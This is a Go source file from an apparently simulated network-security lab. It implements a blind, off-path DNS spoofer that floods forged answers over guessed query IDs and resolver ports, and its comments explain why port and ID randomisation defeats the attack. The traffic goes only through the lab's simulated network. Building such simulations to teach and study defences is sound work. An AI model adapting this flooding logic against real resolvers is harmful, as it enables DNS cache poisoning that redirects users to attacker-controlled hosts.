package attacker

import (
	"context"
	"fmt"
	"net/netip"
	"sync"
	"time"

	miekg "github.com/miekg/dns"

	"github.com/tlslab/tlslab/netsim"
)

// BlindSpoofConfig declares an off-path DNS spoofer: it cannot see the
// victim's query, so it floods forged answers over the IDs and ports it
// guesses, hoping one matches the query in flight.
type BlindSpoofConfig struct {
	// NIC is the attacker's interface; forged frames leave from it.
	// Required.
	NIC *netsim.NIC
	// Victim is the resolver's address. Required.
	Victim netip.Addr
	// NextHop is where frames for the victim go on NIC's segment: the
	// victim itself (the zero value) or the router towards it.
	NextHop netip.Addr
	// Server is the name server the victim queries, whose address the
	// forged answers claim; port 0 means 53. Required.
	Server netip.AddrPort
	// Name and Type are the question the victim is expected to ask (Type
	// zero means A). Required: Name.
	Name string
	Type uint16
	// Forgery is what the answers say; it must cover Name and Type.
	Forgery DNSForgery
	// FirstTXID and TXIDs are the query IDs guessed: TXIDs consecutive IDs
	// from FirstTXID (wrapping); zero TXIDs means all 65536.
	FirstTXID uint16
	TXIDs     int
	// FirstPort and Ports are the resolver source ports guessed; zero
	// FirstPort means 53000 (a fixed-port resolver's), zero Ports means 1.
	FirstPort uint16
	Ports     int
	// Rounds is how many times the whole guess space is sent: zero means
	// 1, negative means until Run's context ends (an attacker flooding
	// for as long as the victim may be asking). Interval is the pause
	// between rounds on the World's clock (zero means one millisecond):
	// it paces the flood, it does not time it against the victim's query.
	Rounds   int
	Interval time.Duration
}

// BlindSpoofer floods forged DNS answers from off the victim's path. It
// succeeds only against a resolver whose query ID and source port fall in
// the guessed space: a resolver with sequential IDs and a fixed port (the
// pre-2008 behaviour) loses to a few dozen guesses per round, one with
// random IDs and ports (RFC 5452) almost never. Being off-path it cannot
// see whether it won; the victim's lookup says. Safe for concurrent use.
type BlindSpoofer struct {
	cfg    BlindSpoofConfig
	wire   []byte // the forged answer with ID 0
	answer string // what it claims, for capture notes (dnsAnswerText)

	mu     sync.Mutex
	rounds int
	sent   int
}

// NewBlindSpoofer checks cfg and returns a spoofer.
func NewBlindSpoofer(cfg BlindSpoofConfig) (*BlindSpoofer, error) {
	switch {
	case cfg.NIC == nil:
		return nil, &ConfigError{"BlindSpoofConfig.NIC", "nil; give the attacker's interface"}
	case !cfg.Victim.Is4():
		return nil, &ConfigError{"BlindSpoofConfig.Victim", "not an IPv4 address; give the resolver's address"}
	case !cfg.Server.Addr().Is4():
		return nil, &ConfigError{"BlindSpoofConfig.Server", "not an IPv4 address; give the name server the victim queries"}
	case cfg.Name == "":
		return nil, &ConfigError{"BlindSpoofConfig.Name", "empty; give the name the victim will look up"}
	}
	if cfg.Server.Port() == 0 {
		cfg.Server = netip.AddrPortFrom(cfg.Server.Addr(), 53)
	}
	if !cfg.NextHop.IsValid() {
		cfg.NextHop = cfg.Victim
	}
	if cfg.Type == 0 {
		cfg.Type = miekg.TypeA
	}
	if cfg.TXIDs <= 0 || cfg.TXIDs > 65536 {
		cfg.TXIDs = 65536
	}
	if cfg.FirstPort == 0 {
		cfg.FirstPort = 53000
	}
	cfg.Ports = max(cfg.Ports, 1)
	if cfg.Rounds == 0 {
		cfg.Rounds = 1
	}
	if cfg.Interval <= 0 {
		cfg.Interval = time.Millisecond
	}
	q := new(miekg.Msg)
	q.SetQuestion(miekg.Fqdn(cfg.Name), cfg.Type)
	q.RecursionDesired = true
	m := cfg.Forgery.Answer(q)
	if m == nil {
		return nil, &ConfigError{"BlindSpoofConfig.Forgery", fmt.Sprintf("does not cover %s %s", cfg.Name, miekg.TypeToString[cfg.Type])}
	}
	m.Id = 0
	wire, err := m.Pack()
	if err != nil {
		return nil, fmt.Errorf("attacker: packing the forged answer: %w", err)
	}
	return &BlindSpoofer{cfg: cfg, wire: wire, answer: dnsAnswerText(m)}, nil
}

// GuessSpace is how many (ID, port) pairs one round covers.
func (b *BlindSpoofer) GuessSpace() int { return b.cfg.TXIDs * b.cfg.Ports }

// Run learns NextHop's MAC by ARP, then sends Rounds rounds of forged
// answers, one per guessed (ID, port) pair, Interval apart, the IDs in
// order from FirstTXID within each port (so any GuessSpace consecutive
// answers cover every guess). It returns when done or when ctx ends (with
// its cause; with negative Rounds it only returns then).
func (b *BlindSpoofer) Run(ctx context.Context) error {
	macs, err := resolveMACs(ctx, b.cfg.NIC, []netip.Addr{b.cfg.NextHop})
	if err != nil {
		return err
	}
	dstMAC, srcMAC := macs[b.cfg.NextHop], b.cfg.NIC.MAC()
	clock := b.cfg.NIC.Host().World().Clock()
	wire := append([]byte(nil), b.wire...)
	for round := 0; b.cfg.Rounds < 0 || round < b.cfg.Rounds; round++ {
		if round > 0 {
			if err := sleep(ctx, clock, b.cfg.Interval); err != nil {
				return err
			}
		}
		n := 0
		for pi := range b.cfg.Ports {
			dst := netip.AddrPortFrom(b.cfg.Victim, b.cfg.FirstPort+uint16(pi))
			for i := range b.cfg.TXIDs {
				id := b.cfg.FirstTXID + uint16(i)
				wire[0], wire[1] = byte(id>>8), byte(id)
				b.cfg.NIC.WriteFrame(noteFrame(b.cfg.NIC, udpFrame(srcMAC, dstMAC, b.cfg.Server, dst, id, wire),
					"blind-spoofed DNS answer %s (guessing query ID %d, port %d)", b.answer, id, dst.Port()))
				n++
			}
		}
		b.mu.Lock()
		b.rounds++
		b.sent += n
		b.mu.Unlock()
	}
	return nil
}

// BlindSpoofReport is what a BlindSpoofer sent.
type BlindSpoofReport struct {
	// GuessSpace is the (ID, port) pairs per round; Rounds and Sent what
	// went out.
	GuessSpace, Rounds, Sent int
}

// Report returns what was sent so far.
func (b *BlindSpoofer) Report() BlindSpoofReport {
	b.mu.Lock()
	defer b.mu.Unlock()
	return BlindSpoofReport{GuessSpace: b.GuessSpace(), Rounds: b.rounds, Sent: b.sent}
}
